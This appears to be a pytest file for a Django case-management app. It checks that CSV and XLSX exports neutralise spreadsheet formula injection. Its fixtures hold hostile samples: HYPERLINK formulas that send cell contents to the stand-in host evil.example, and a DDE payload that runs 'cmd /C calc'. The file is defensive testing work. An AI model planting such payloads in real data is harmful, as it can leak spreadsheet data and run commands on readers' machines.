"""Formula injection (CSV injection, OWASP; issue #15): names and summaries people typed or imported, written to
the case exports (CSV and XLSX), the report annex and the list of weak organizations, never run as formulas in
the reader's spreadsheet. In XLSX every text is a string cell and reads back unchanged; in CSV a text that could
start a formula is prefixed with "'". Numbers and dates stay numbers and dates."""

import csv
import io
import re
from datetime import date, datetime

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cases.models import ExportJob
from core.spreadsheets import FORMULA_PREFIXES, csv_row, csv_text, write_cell, xlsx_row
from organizations import services as org_services
from organizations.choices import DossierOrigin, UnitKind
from organizations.models import Unit
from reports import services as report_services
from reports.models import Report
from tests.factories import CaseFactory, CitizenFactory, UnitFactory

UNIT = '=HYPERLINK("http://evil.example/?d="&B5,"Xem chi tiết")'
ORGANIZATION = '=HYPERLINK("http://evil.example/"&A1,"Chi bộ số 1")'
CITIZEN = '@SUM(1+1)*cmd|" /C calc"!A0'
SUMMARIES = ["+1+1 khiếu nại thu hồi đất", "-2+3 tố cáo cán bộ", "\t=1+1 phản ánh", "\r=2+2 kiến nghị"]
HOSTILE = [UNIT, ORGANIZATION, CITIZEN, *SUMMARIES]


def xlsx_cells(content: bytes) -> list:
    """Every filled cell of every sheet."""
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]


# The annex's own formulas (totals, derived figures, changes): cell references, numbers and IF/ROUND/SUM only.
OWN_FORMULA = re.compile(r'=(?:[A-Z]{1,2}\d+|IF|ROUND|SUM|\d+(?:\.\d+)?|""|[-+*/(),=:])+')


def assert_only_own_formulas(cells: list, *expected: str) -> None:
    """No text became a formula: every formula cell is one the annex writes itself, built from cell references."""
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas, "the annex computes its totals with formulas"
    assert [formula for formula in formulas if not OWN_FORMULA.fullmatch(formula[1])] == []
    values = {cell.value for cell in cells}
    for text in expected:
        assert any(isinstance(value, str) and text in value for value in values), text


def assert_no_formula(cells: list, *expected: str) -> None:
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []
    values = {cell.value for cell in cells}
    for text in expected:
        assert any(isinstance(value, str) and text in value for value in values), text


@pytest.fixture
def hostile_ward(ward):
    """The ward, an organization under it and people in it, named as an attacker would (the ward's name as an
    import would bring it)."""
    Unit.objects.filter(pk=ward.pk).update(name=UNIT)
    ward.refresh_from_db()
    return ward


@pytest.fixture
def hostile_cases(hostile_ward):
    citizen = CitizenFactory(unit=hostile_ward, full_name=CITIZEN)
    return [
        CaseFactory(
            unit=hostile_ward, kind="complaint", complainant=citizen, summary=summary, received_on=date(2026, 3, 2)
        )
        for summary in SUMMARIES
    ]


def test_the_helpers_guard_text_and_leave_numbers_and_dates():
    assert [csv_text(text)[0] for text in HOSTILE] == ["'"] * len(HOSTILE)
    assert csv_text("-5 hộ") == "'-5 hộ"  # the accepted trade-off: still reads as the text
    assert csv_row([-5, 3.5, None, date(2026, 3, 2), "Phường Ba Đình"]) == [
        "-5",
        "3.5",
        "",
        "02/03/2026",
        "Phường Ba Đình",
    ]
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(xlsx_row(sheet, [UNIT, -5, date(2026, 3, 2), "-5 hộ", "bad\x07char"]))
    write_cell(sheet, row=2, column=1, value=ORGANIZATION)
    out = io.BytesIO()
    workbook.save(out)
    read = load_workbook(io.BytesIO(out.getvalue())).active
    assert [cell.data_type for cell in read[1]] == ["s", "n", "d", "s", "s"]
    assert [cell.value for cell in read[1]] == [UNIT, -5, datetime(2026, 3, 2), "-5 hộ", "badchar"]
    assert (read["A2"].data_type, read["A2"].value) == ("s", ORGANIZATION)


def _export(client, user, export_format) -> bytes:
    client.force_login(user)
    response = client.post(reverse("cases:export_create"), {"format": export_format, "query": ""})
    assert response.status_code == 302
    job = ExportJob.objects.filter(user=user).latest("pk")
    assert job.status == "done", job.error
    response = client.get(reverse("cases:export_download", kwargs={"pk": job.pk}))
    return b"".join(response.streaming_content)


def test_the_case_export_xlsx_writes_hostile_texts_as_text(client, hostile_cases, district_reviewer):
    cells = xlsx_cells(_export(client, district_reviewer, "xlsx"))
    assert_no_formula(cells, UNIT, CITIZEN, *SUMMARIES)
    assert {cell.value for cell in cells} >= {UNIT, CITIZEN, *SUMMARIES}  # exactly as typed, no quote added


def test_the_case_export_csv_quotes_every_cell_that_could_start_a_formula(client, hostile_cases, district_reviewer):
    content = _export(client, district_reviewer, "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)] == []
    for text in [UNIT, CITIZEN, *SUMMARIES]:
        assert f"'{text}" in cells, text


def test_the_weak_list_xlsx_writes_hostile_names_as_text(client, hostile_ward, ward_official):
    organization = UnitFactory(
        name=ORGANIZATION, kind=UnitKind.GRASSROOTS, division_type="", parent=hostile_ward, code=""
    )
    org_services.dossier_open(
        user=ward_official, unit=organization, year=2025, origin=DossierOrigin.RATING, identified_on=date(2025, 7, 1)
    )
    client.force_login(ward_official)
    response = client.get(reverse("organizations:weak_list_export"), {"start": "15/06/2025", "end": "14/12/2025"})
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_no_formula(cells, ORGANIZATION, UNIT)
    assert ORGANIZATION in {cell.value for cell in cells}


def test_the_report_xlsx_writes_an_imported_organization_name_as_text(
    client, hostile_ward, ward_official, django_capture_on_commit_callbacks
):
    organization = UnitFactory(
        name=ORGANIZATION, kind=UnitKind.GRASSROOTS, division_type="", parent=hostile_ward, code=""
    )
    CaseFactory(unit=organization, summary=SUMMARIES[0], received_on=date(2026, 3, 2))
    with django_capture_on_commit_callbacks(execute=True):
        made = report_services.report_request(user=ward_official, unit=hostile_ward, period_kind="half_year", year=2026)
    report = Report.objects.get(pk=made.pk)
    assert report.status == "done", report.error
    assert ORGANIZATION in str(report.figures["by_unit"])  # the name reaches the annex through the compilation
    client.force_login(ward_official)
    response = client.get(reverse("reports:report_export", kwargs={"pk": report.pk, "format": "xlsx"}))
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_only_own_formulas(cells, ORGANIZATION, UNIT)
    assert ORGANIZATION in {cell.value for cell in cells}
